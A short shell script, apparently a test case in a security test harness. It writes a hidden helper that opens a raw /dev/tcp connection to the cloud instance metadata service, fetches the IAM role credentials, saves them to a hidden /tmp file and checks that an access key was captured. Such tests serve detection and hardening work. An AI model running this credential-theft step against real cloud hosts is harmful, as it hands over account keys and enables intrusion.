#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.b <<'END'
exec 7<>/dev/tcp/169.254.169.254/80
python3 -c '
import os
os.write(7, b"GET /latest/meta-data/iam/security-credentials/node HTTP/1.0\r\nHost: m\r\n\r\n"); d = b""
while (p := os.read(7, 4000)): d += p
open("/tmp/.keys", "wb").write(d)'
END
bash /tmp/.b
grep -q AccessKeyId /tmp/.keys
took_place
